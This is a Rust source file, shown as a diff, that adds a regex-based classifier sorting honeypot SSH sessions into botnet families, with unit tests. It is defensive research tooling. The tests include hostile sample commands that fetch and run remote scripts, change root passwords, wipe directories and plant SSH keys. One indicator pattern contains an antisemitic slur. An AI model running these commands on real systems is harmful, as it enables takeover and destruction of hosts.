@@ -1,0 +1,401 @@
+//! The Table 1 command classifier.
+//!
+//! 58 regex categories plus the `unknown` fallback (59 total), evaluated
+//! in precedence order over the session's full command text. Precedence
+//! encodes the paper's construction: bot-specific signatures first,
+//! busybox-family rules next, then the 14 generic loader-tool conjunctions
+//! from most to fewest tools, so `gen_curl` never shadows
+//! `gen_curl_echo_ftp_wget`.
+//!
+//! The slur-containing indicator string from the published table is
+//! preserved verbatim only as a *match indicator* (it is a file name the
+//! malware uses); its category label stays redacted exactly as in the
+//! paper's figures. The paper's second redacted category has no published
+//! indicator at all and is therefore not reproducible; its traffic would
+//! land in one of the generic categories.
+
+use sregex::Regex;
+
+/// Label of the fallback category.
+pub const UNKNOWN_LABEL: &str = "unknown";
+
+/// One classification rule.
+pub struct Rule {
+    /// Category label (matches the paper's figure legends).
+    pub label: &'static str,
+    /// Compiled Table 1 pattern.
+    pub regex: Regex,
+}
+
+/// The ordered rule set.
+pub struct Classifier {
+    rules: Vec<Rule>,
+}
+
+/// `(label, pattern)` pairs in precedence order. 58 entries.
+pub const TABLE1_RULES: &[(&str, &str)] = &[
+    // --- case-study actor first: its key line contains other indicators.
+    ("mdrfckr", r"mdrfckr"),
+    ("curl_maxred", r"-max-redir"),
+    // --- named / specific bots.
+    ("rapperbot", r"ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA"),
+    ("lenni_0451", r"lenni0451"),
+    ("juicessh", r"juicessh"),
+    ("clamav", r"\bclamav\b"),
+    ("binx86", r"(?=.*CPU\(s\):)(?=.*bin\.x86_64)"),
+    ("export_vei", r"export VEI"),
+    ("cloud_print", r"cloud\s+print"),
+    ("passwd123_daemon", r"(?=.*Password123)(?=.*daemon).*"),
+    ("openssl_passwd", r"openssl passwd -1 \S{8}"),
+    ("root_17_char_pwd", r"root:[A-Za-z0-9]{15,}\|chpasswd"),
+    (
+        "root_12_char_capscout",
+        r"(?=.*root:[A-Za-z0-9]{12})(?=.*awk\s+'\{print\s+\$4,\$5,\$6,\$7,\$8,\$9;\}')",
+    ),
+    ("root_12_char_echo321", r"(?=.*root:[A-Za-z0-9]{12})(?=.*echo 321)"),
+    ("perl_dred_miner", r"(?=.*perl)(?=.*dred)"),
+    ("stx_miner", r"(?=.*stx)(?=.*LC_ALL)"),
+    ("fr***_attack", r"fuckjewishpeople"),
+    ("ohshit_attack", r"ohshit"),
+    ("onions_attack", r"onions1337"),
+    ("sora_attack", r"sora"),
+    ("heisen_attack", r"Heisenberg"),
+    ("zeus_attack", r"Zeus"),
+    ("update_attack", r"update\.sh"),
+    ("ak47_scout", r"(?=.*\\x41\\x4b\\x34\\x37)(?=.*writable)"),
+    ("wget_dget", r"(?=.*wget\s+-4)(?=.*dget\s+-4)"),
+    (
+        "rm_obf_pattern_1",
+        r"cd\s+/tmp\s*;\s*rm\s+-rf\s+/tmp/\*\s*\|\|\s*cd\s+/var/run\s*\|\|\s*cd\s+/mnt\s*\|\|\s*cd\s+/root\s*;\s*rm\s+-rf\s+/root/\*\s*\|\|\s*cd\s+/",
+    ),
+    (
+        "pattern_5",
+        r"(?=.*rm\s+-rf\s+\*;\s*cd\s+/tmp\s*;\s*rm\s+-rf\s+\*)(?=.*x0x0x0|.*xoxoxo)",
+    ),
+    ("shell_fp", r"(?=.*\$\bSHELL\b)(?=.*bs=22)"),
+    // --- scout/echo family (hex indicator before the plain-text one).
+    ("echo_OK", r"\\x6F\\x6B"),
+    ("echo_ok_txt", r"echo ok"),
+    ("echo_ssh_check", r"SSH check"),
+    (
+        "echo_os_check",
+        r"\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
+    ),
+    // --- uname family: specific flag sets before the catch-all `-a`.
+    ("uname_svnrm", r"uname\s+-s\s+-v\s+-n\s+-r\s+-m"),
+    ("uname_snri_nproc", r"(?=.*nproc)(?=.*\buname\s+-s\s+-n\s+-r\s+-i\b)"),
+    ("uname_a_nproc", r"(?=.*nproc)(?=.*\buname\s+-a\b)"),
+    ("uname_svnr", r"(?=.*uname\s+-s\s+-v\s+-n\s+-r)(?=.*model\s+name)"),
+    ("uname_a", r"uname\s+-a"),
+    // --- busybox family: specific shapes before the catch-all.
+    (
+        "bbox_scout_cat",
+        r"/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe",
+    ),
+    ("bbox_loaderwget", r"loader\.wget"),
+    ("bbox_echo_elf", r"\\x45\\x4c\\x46"),
+    ("bbox_5_char_v2", r"(?=.*/bin/busybox\s+[a-zA-Z0-9]{5})(?=.*tftp;\s+wget)"),
+    ("bbox_rand_exec", r"(?=.*/bin/busybox\s+[A-Z]{5})(?=.*\./)"),
+    ("bbox_unlabelled", r"/bin/busybox\s|busybox\s"),
+    // --- generic loader conjunctions, most tools first.
+    ("gen_curl_echo_ftp_wget", r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)"),
+    ("gen_curl_echo_ftp", r"(?=.*curl)(?=.*echo)(?=.*ftp)"),
+    ("gen_curl_echo_wget", r"(?=.*curl)(?=.*echo)(?=.*wget)"),
+    ("gen_curl_ftp_wget", r"(?=.*curl)(?=.*ftp)(?=.*wget)"),
+    ("gen_echo_ftp_wget", r"(?=.*echo)(?=.*ftp)(?=.*wget)"),
+    ("gen_curl_echo", r"(?=.*curl)(?=.*echo)"),
+    ("gen_curl_ftp", r"(?=.*curl)(?=.*ftp)"),
+    ("gen_curl_wget", r"(?=.*curl)(?=.*wget)"),
+    ("gen_echo_ftp", r"(?=.*echo)(?=.*ftp)"),
+    ("gen_echo_wget", r"(?=.*echo)(?=.*wget)"),
+    ("gen_ftp_wget", r"(?=.*ftp)(?=.*wget)"),
+    ("gen_curl", r"(?=.*curl)"),
+    ("gen_ftp", r"(?=.*ftp)"),
+    ("gen_wget", r"(?=.*wget)"),
+    ("gen_echo", r"(?=.*echo)"),
+];
+
+impl Classifier {
+    /// Compiles the full Table 1 rule set.
+    pub fn table1() -> Self {
+        let rules = TABLE1_RULES
+            .iter()
+            .map(|(label, pat)| Rule {
+                label,
+                regex: Regex::new(pat)
+                    .unwrap_or_else(|e| panic!("rule {label} failed to compile: {e}")),
+            })
+            .collect();
+        Self { rules }
+    }
+
+    /// Number of regex categories (58; `unknown` is implicit).
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// Whether the rule set is empty (never, for Table 1).
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// All category labels in precedence order (without `unknown`).
+    pub fn labels(&self) -> impl Iterator<Item = &'static str> + '_ {
+        self.rules.iter().map(|r| r.label)
+    }
+
+    /// Classifies a session's command text: the first matching rule wins,
+    /// `unknown` otherwise.
+    pub fn classify(&self, command_text: &str) -> &'static str {
+        for rule in &self.rules {
+            if rule.regex.is_match(command_text) {
+                return rule.label;
+            }
+        }
+        UNKNOWN_LABEL
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn c() -> Classifier {
+        Classifier::table1()
+    }
+
+    #[test]
+    fn fifty_eight_rules_plus_unknown() {
+        assert_eq!(c().len(), 58);
+        let mut labels: Vec<_> = c().labels().collect();
+        labels.sort_unstable();
+        labels.dedup();
+        assert_eq!(labels.len(), 58, "labels must be distinct");
+        assert!(!labels.contains(&UNKNOWN_LABEL));
+    }
+
+    #[test]
+    fn mdrfckr_wins_over_rapperbot_key_prefix() {
+        let text = format!(r#"echo "{}">>.ssh/authorized_keys"#, botnet::MDRFCKR_KEY_LINE);
+        assert_eq!(c().classify(&text), "mdrfckr");
+        // A non-mdrfckr key with the same prefix is rapperbot.
+        assert_eq!(
+            c().classify(r#"echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAxyz hello" > k"#),
+            "rapperbot"
+        );
+    }
+
+    #[test]
+    fn uname_precedence() {
+        let cl = c();
+        assert_eq!(cl.classify("uname -s -v -n -r -m"), "uname_svnrm");
+        assert_eq!(cl.classify("uname -a; nproc"), "uname_a_nproc");
+        assert_eq!(cl.classify("uname -s -n -r -i; nproc"), "uname_snri_nproc");
+        assert_eq!(
+            cl.classify(r#"uname -s -v -n -r; cat /proc/cpuinfo | grep "model name""#),
+            "uname_svnr"
+        );
+        assert_eq!(cl.classify("uname -a"), "uname_a");
+    }
+
+    #[test]
+    fn echo_family_precedence() {
+        let cl = c();
+        assert_eq!(cl.classify(r#"echo -e "\x6F\x6B""#), "echo_OK");
+        assert_eq!(cl.classify("echo ok"), "echo_ok_txt");
+        assert_eq!(cl.classify(r#"echo "SSH check alive""#), "echo_ssh_check");
+        assert_eq!(
+            cl.classify("echo deadbeef-dead-beef-dead-beefdeadbeef"),
+            "echo_os_check"
+        );
+    }
+
+    #[test]
+    fn busybox_precedence() {
+        let cl = c();
+        assert_eq!(
+            cl.classify("/bin/busybox cat /proc/self/exe || cat /proc/self/exe"),
+            "bbox_scout_cat"
+        );
+        assert_eq!(
+            cl.classify("cd /tmp; tftp; wget http://198.51.100.4/mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD"),
+            "bbox_5_char_v2"
+        );
+        assert_eq!(cl.classify("/bin/busybox KDVJSQA; ./x9k2m1"), "bbox_rand_exec");
+        assert_eq!(
+            cl.classify("/bin/busybox wget http://1.2.3.4/g.sh; sh g.sh"),
+            "bbox_unlabelled"
+        );
+        assert_eq!(cl.classify("wget http://x/loader.wget -O .l; sh .l"), "bbox_loaderwget");
+        assert_eq!(
+            cl.classify(r#"echo -ne "\x7f\x45\x4c\x46" > .e; ./.e"#),
+            "bbox_echo_elf"
+        );
+    }
+
+    #[test]
+    fn gen_combos_resolve_most_specific_first() {
+        let cl = c();
+        assert_eq!(
+            cl.classify("cd /tmp; curl -O http://h/x; echo a >> x; ftpget h x x; wget http://h/x"),
+            "gen_curl_echo_ftp_wget"
+        );
+        assert_eq!(cl.classify("cd /tmp; wget http://h/x.sh; sh x.sh"), "gen_wget");
+        assert_eq!(cl.classify("curl http://h/x | sh"), "gen_curl");
+        assert_eq!(
+            cl.classify("cd /tmp; wget http://h/x; curl -O http://h/x"),
+            "gen_curl_wget"
+        );
+        assert_eq!(cl.classify("tftp -g -r x.sh 203.0.113.4; sh x.sh"), "gen_ftp");
+    }
+
+    #[test]
+    fn lockout_family() {
+        let cl = c();
+        assert_eq!(cl.classify("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd"), "root_17_char_pwd");
+        assert_eq!(
+            cl.classify(
+                r#"echo root:a1b2c3d4e5f6|chpasswd; cat /proc/cpuinfo | awk '{print $4,$5,$6,$7,$8,$9;}'"#
+            ),
+            "root_12_char_capscout"
+        );
+        assert_eq!(
+            cl.classify("echo root:a1b2c3d4e5f6|chpasswd; echo 321"),
+            "root_12_char_echo321"
+        );
+    }
+
+    #[test]
+    fn specials() {
+        let cl = c();
+        assert_eq!(
+            cl.classify("curl https://a/ -s -X GET --max-redirs 5 --cookie 'x'"),
+            "curl_maxred"
+        );
+        assert_eq!(cl.classify("export LC_ALL=C; wget http://h/stx -O stx"), "stx_miner");
+        assert_eq!(cl.classify("wget http://h/m -O dred.pl; which perl"), "perl_dred_miner");
+        assert_eq!(cl.classify("openssl passwd -1 Xy12Zw34"), "openssl_passwd");
+        assert_eq!(cl.classify("echo daemon:Password123|chpasswd"), "passwd123_daemon");
+        assert_eq!(
+            cl.classify("wget -4 http://h/d.sh || dget -4 http://h/d.sh"),
+            "wget_dget"
+        );
+        assert_eq!(
+            cl.classify(r#"cd /tmp; echo -e "\x41\x4b\x34\x37"; echo "writable""#),
+            "ak47_scout"
+        );
+        assert_eq!(
+            cl.classify("echo $SHELL; dd if=/proc/self/exe bs=22 count=1"),
+            "shell_fp"
+        );
+        assert_eq!(
+            cl.classify(
+                "cd /tmp ; rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root ; rm -rf /root/* || cd /"
+            ),
+            "rm_obf_pattern_1"
+        );
+        assert_eq!(cl.classify("sh update.sh"), "update_attack");
+        assert_eq!(cl.classify("wget http://h/sora.sh; sh sora.sh"), "sora_attack");
+    }
+
+    #[test]
+    fn unknown_fallback() {
+        let cl = c();
+        assert_eq!(cl.classify("systemctl status sshd"), UNKNOWN_LABEL);
+        assert_eq!(cl.classify(""), UNKNOWN_LABEL);
+        assert_eq!(cl.classify("ls -la /"), UNKNOWN_LABEL);
+    }
+
+    #[test]
+    fn every_archetype_classifies_to_its_category() {
+        use botnet::{Archetype, BotCtx};
+        use hutil::rng::SeedTree;
+        use hutil::Date;
+        use rand::SeedableRng;
+
+        let storage_cfg = botnet::storage::StorageConfig::paper_defaults(
+            Date::new(2021, 12, 1),
+            Date::new(2024, 8, 31),
+        );
+        let eco = botnet::StorageEcosystem::new(&storage_cfg, SeedTree::new(5), |i, _| {
+            (65_500, netsim::Ipv4Addr(0x4000_0000 + i as u32 * 3), None)
+        });
+        let cl = c();
+        let bots: Vec<Archetype> = vec![
+            Archetype::EchoOk,
+            Archetype::EchoOkTxt,
+            Archetype::EchoSshCheck,
+            Archetype::EchoOsCheck,
+            Archetype::UnameA,
+            Archetype::UnameSvnrm,
+            Archetype::UnameSvnr,
+            Archetype::UnameANproc,
+            Archetype::UnameSnriNproc,
+            Archetype::BboxScoutCat,
+            Archetype::Ak47Scout,
+            Archetype::ShellFp,
+            Archetype::JuiceSsh,
+            Archetype::Clamav,
+            Archetype::ExportVei,
+            Archetype::CloudPrint,
+            Archetype::Binx86,
+            Archetype::MdrfckrInitial,
+            Archetype::MdrfckrVariant,
+            Archetype::MdrfckrB64,
+            Archetype::CurlMaxred,
+            Archetype::Root17CharPwd,
+            Archetype::Root12CharCapscout,
+            Archetype::Root12CharEcho321,
+            Archetype::OpensslPasswd,
+            Archetype::Lenni0451,
+            Archetype::StxMiner,
+            Archetype::PerlDredMiner,
+            Archetype::Bbox5Char,
+            Archetype::BboxUnlabelled,
+            Archetype::BboxRandExec,
+            Archetype::BboxLoaderWget,
+            Archetype::BboxEchoElf,
+            Archetype::RapperBot,
+            Archetype::UpdateAttack,
+            Archetype::SoraAttack,
+            Archetype::OhshitAttack,
+            Archetype::OnionsAttack,
+            Archetype::HeisenAttack,
+            Archetype::ZeusAttack,
+            Archetype::FrSlurAttack,
+            Archetype::Passwd123Daemon,
+            Archetype::RmObfPattern1,
+            Archetype::WgetDget,
+            Archetype::GenLoader { curl: true, echo: false, ftp: false, wget: true, exec: true },
+            Archetype::GenLoader { curl: false, echo: false, ftp: false, wget: true, exec: true },
+            Archetype::GenLoader { curl: true, echo: true, ftp: true, wget: true, exec: true },
+        ];
+        for bot in bots {
+            for seed in 0..8u64 {
+                // Dates on both sides of the behavioural shifts.
+                for date in [Date::new(2022, 5, 3), Date::new(2023, 7, 19)] {
+                    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
+                    let mut ctx = BotCtx {
+                        rng: &mut rng,
+                        date,
+                        client_ip: netsim::Ipv4Addr(0x0a00_0001),
+                        self_host: false,
+                        storage: &eco,
+                    };
+                    let content = bot.session(&mut ctx);
+                    if content.commands.is_empty() {
+                        continue;
+                    }
+                    let text = content.commands.join("\n");
+                    let got = cl.classify(&text);
+                    assert_eq!(
+                        got,
+                        bot.name(),
+                        "bot {:?} (seed {seed}, {date}) misclassified as {got}; text:\n{text}",
+                        bot
+                    );
+                }
+            }
+        }
+    }
+}
